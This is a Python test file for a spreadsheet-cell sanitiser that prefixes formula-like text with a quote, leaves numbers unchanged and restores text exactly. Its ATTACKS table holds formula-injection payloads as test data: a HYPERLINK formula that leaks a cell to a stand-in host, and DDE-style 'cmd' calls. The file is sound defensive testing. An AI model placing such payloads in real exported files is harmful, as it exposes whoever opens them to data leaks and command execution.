"""The spreadsheet-cell rule (:mod:`scifig_tasks.core.spreadsheet_cells`): OWASP's quote before a text cell a
spreadsheet would read as a formula, numbers left alone, and every text read back exactly."""

from __future__ import annotations

import itertools

from scifig_tasks.core.spreadsheet_cells import (
    FORMULA_STARTS,
    MARKER,
    MARKER_COLUMN,
    needs_quote,
    neutralise,
    neutralise_row,
    restore,
    restore_row,
)

ATTACKS = {
    '=HYPERLINK("http://example.invalid/?leak="&A1,"open")': '\'=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
UNCHANGED = ["-3", "+1.5", "-2e-3", "-.5", "3", "", "A caption", "y = 2x + 1", "[-1, 2]", " =1+1"]


def test_formula_cells_get_the_quote_and_numbers_and_text_stay() -> None:
    assert {cell: neutralise(cell) for cell in ATTACKS} == ATTACKS
    assert [neutralise(cell) for cell in UNCHANGED] == UNCHANGED
    assert [neutralise(value) for value in (-3, -2.5, None, True)] == [-3, -2.5, None, True]  # not text: as it is


def test_a_cell_starting_with_the_quote_reads_back_exactly() -> None:
    assert neutralise("'quoted'") == "''quoted'"
    assert neutralise("'=1") == "''=1"
    assert neutralise("'") == "''"
    assert [restore(neutralise(cell)) for cell in ("'quoted'", "'=1", "'", "''")] == ["'quoted'", "'=1", "'", "''"]


def test_every_short_text_round_trips_and_none_is_left_a_formula() -> None:
    alphabet = [*FORMULA_STARTS, "'", "1", ".", "e", "a", " "]
    for length in range(4):
        for letters in itertools.product(alphabet, repeat=length):
            text = "".join(letters)
            written = neutralise(text)
            assert restore(written) == text, repr(text)
            if written.startswith(FORMULA_STARTS):  # only a plain number may still start so, unchanged
                assert written == text and not needs_quote(text), repr(text)


def test_rows_are_marked_and_only_marked_rows_are_restored() -> None:
    row = {"index": "0", "question": "=1+1", "answer": "-3", "prediction": "=5", "category": "'x"}
    written = neutralise_row(row, exact=("index", "prediction"))
    assert written == {
        "index": "0",
        "question": "'=1+1",
        "answer": "-3",
        "prediction": "=5",  # exact: VLMEvalKit reads the reply back
        "category": "''x",
        MARKER_COLUMN: MARKER,
    }
    assert restore_row(written, exact=("index", "prediction")) == row
    unmarked = {"index": "0", "question": "'as written"}  # VLMEvalKit's own file, or an earlier release's
    assert restore_row(unmarked) == unmarked
